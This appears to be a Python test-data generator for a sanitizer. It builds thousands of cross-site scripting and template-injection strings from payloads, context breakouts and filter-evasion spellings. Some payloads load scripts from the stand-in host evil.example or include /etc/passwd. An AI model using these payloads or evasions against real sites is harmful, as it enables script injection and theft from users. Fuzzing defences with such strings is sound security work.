"""Attacks made by a grammar: what a browser might run, in every way out of a context.

The suite has teeth without any corpus.
"""

import random

MARK = "alert(8463)"

PAYLOADS = [
    f"<script>{MARK}</script>",
    f"<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<iframe src=javascript:{MARK}></iframe>",
    f'<iframe srcdoc="<script>{MARK}</script>"></iframe>',
    f"<a href=javascript:{MARK}>x</a>",
    f"<form action=javascript:{MARK}><button>x</button></form>",
    f"<input autofocus onfocus={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<style>@import '//evil.example/x.css'</style>",
    f"<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    f"<base href=//evil.example/>",
    f"<object data=javascript:{MARK}></object>",
    f"<embed src=javascript:{MARK}>",
    f"<math href=javascript:{MARK}>x</math>",
    f"<template><script>{MARK}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<body onload={MARK}>",
    f"<marquee onstart={MARK}>",
    f"<x onclick={MARK} id=location>",
    f"<plaintext>",
    f"<textarea>",
    f"<title>",
    f"<!--",
    f"<![CDATA[",
    f"<?php",
    f"<frameset onload={MARK}>",
    f"javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    f"onmouseover={MARK}",
    f"{{{{7*7}}}}",
    f"{{% include '/etc/passwd' %}}",
    f"{{{{ site.config }}}}",
    f"${{{MARK}}}",
    f"`{MARK}`",
    f"[x](javascript:{MARK})",
    f"[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"![x](javascript:{MARK})",
    f"<javascript:{MARK}>",
    f"[x]: javascript:{MARK}",
]

WAYS_OUT = [
    "",
    "'",
    '"',
    ">",
    '">',
    "'>",
    "'\">",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "--!>",
    "\\'",
    '\\"',
    "&quot;>",
    "&#34;>",
    "\u2028",
    "\n\n",
    "\r\n\r\n",
    "\t",
    "\x00",
    "\ufeff",
    "\u202e",
    "%22%3E",
    "+ADw-",
    "\u00a0",
    ";",
    "*/",
    "//",
    "/",
    "../",
    "`",
    "a b ",
    "é\u0301",
    "𝒳",
    "\ud7ff\ue000\ufffd",
]

ENDS = ["", "<!--", "//", "'", '"', "</script>", "\\", "\x00", " x=", "\u200d"]


def spellings(text: str, chance: random.Random) -> str:
    """The same as an evader would write it."""
    way = chance.randrange(8)
    if way == 0:
        return text.replace("script", "ScRiPt").replace("javascript", "JaVaScRiPt")
    if way == 1:
        return text.replace("<", "&lt;").replace(">", "&gt;")
    if way == 2:
        return text.replace("javascript:", "java\tscript:")
    if way == 3:
        return text.replace("javascript:", "&#106;avascript&colon;")
    if way == 4:
        return text.replace("<", "<\x0b" if chance.random() < 0.5 else "< ")
    if way == 5:
        return text.replace("<", "%3C").replace(">", "%3E")
    if way == 6:
        return text.replace("=", " = ").replace(">", "/>")
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def generated(count: int = 2_200, seed: int = 20261121) -> list[str]:
    """Payload × way out, then seeded spellings of them, each string once."""
    chance = random.Random(seed)
    found = dict.fromkeys(way + payload for payload in PAYLOADS for way in WAYS_OUT)
    while len(found) < count:
        way, payload, end = (chance.choice(kind) for kind in [WAYS_OUT, PAYLOADS, ENDS])
        found[way + spellings(payload, chance) + end] = None
    return list(found)
